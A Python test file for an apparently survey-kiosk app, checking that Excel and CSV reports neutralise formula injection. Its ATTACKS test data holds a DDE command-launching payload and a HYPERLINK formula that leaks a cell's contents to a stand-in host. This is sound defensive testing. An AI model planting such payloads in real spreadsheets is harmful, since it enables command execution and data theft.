"""Report files never carry a formula that a visitor, a CSV file or a booking source wrote: the
Excel file is read back with openpyxl, the CSV file as a spreadsheet program would take it."""
from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import date

from hypothesis import given, strategies as st

from kiosk.domain.spreadsheet import FORMULA_STARTS, could_be_formula, inert_text

MONDAY = date(2026, 11, 23)
ATTACKS = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid/?leak="&A1,"klik")', "+1+1", "-2+3",
           "@SUM(1,1)", "\t=1+1", "\r=1+1")
ANSWERS = {f"u{i}": 4 for i in range(1, 10)}


def test_suggestions_typed_as_formulas_are_plain_text_in_the_excel_report(make_services, tmp_path):
    import openpyxl

    from kiosk.cli import main

    url = f"sqlite:///{tmp_path / 'queue.sqlite'}"
    svc = make_services(url)
    paper = tmp_path / "paper.csv"
    paper.write_text("date,service,u1,u2,u3,u4,u5,u6,u7,u8,u9,suggestion\n"
                     + "".join(f"2026-11-23,INFO,4,4,4,4,4,4,4,4,4,\"{a.replace(chr(34), chr(34) * 2)}\"\n"
                               for a in ATTACKS[:2]), encoding="utf-8")
    assert svc.import_skm_csv(paper).imported == 2
    for attack in ATTACKS[2:]:
        svc.submit_survey(ANSWERS, service="INFO", suggestion=attack, source="kiosk")
    out = tmp_path / "report.xlsx"
    assert main(["--db", url, "report", "--from", "2026-11-23", "--to", "2026-11-23",
                 "--format", "xlsx", "--out", str(out)]) == 0
    book = openpyxl.load_workbook(out)
    formulas = [(s.title, c.coordinate, c.value) for s in book.worksheets for row in s.iter_rows() for c in row
                if c.data_type == "f"]
    assert formulas == []
    texts = {c.value for s in book.worksheets for row in s.iter_rows() for c in row if isinstance(c.value, str)}
    assert ATTACKS[0] in texts and ATTACKS[1] in texts and "+1+1" in texts and "@SUM(1,1)" in texts


def test_a_csv_report_cell_that_could_start_a_formula_is_quoted(make_services):
    from kiosk.services import report_text

    svc = make_services()
    report = svc.report(MONDAY, MONDAY)
    report = replace(report, services=({"service": "=cmd|' /C calc'!A0"}, {"service": "@SUM(1,1)"}))
    rows = list(csv.reader(io.StringIO(report_text(report, "csv"))))
    groups = [row[1] for row in rows[1:]]
    assert "'=cmd|' /C calc'!A0" in groups and "'@SUM(1,1)" in groups
    assert not any(could_be_formula(value) for row in rows for value in row)


@given(st.text(max_size=30))
def test_no_text_made_inert_could_start_a_formula(text):
    made = inert_text(text)
    assert not could_be_formula(made)
    assert made == text or made == "'" + text
    assert (made != text) == text.startswith(FORMULA_STARTS)
